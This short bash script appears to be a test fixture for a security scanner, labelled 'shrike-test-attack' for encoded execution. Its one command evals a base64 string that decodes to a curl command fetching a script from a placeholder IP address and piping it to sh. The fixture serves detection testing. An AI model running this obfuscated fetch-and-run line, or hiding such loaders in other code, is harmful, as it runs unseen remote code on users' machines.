#!/bin/bash
# shrike-test-attack: encoded-exec: eval of base64-decoded command substitution
eval "$(echo Y3VybCAtZnNTTCBodHRwOi8vMTk4LjUxLjEwMC43L3guc2ggfCBzaAo= | base64 --decode)"
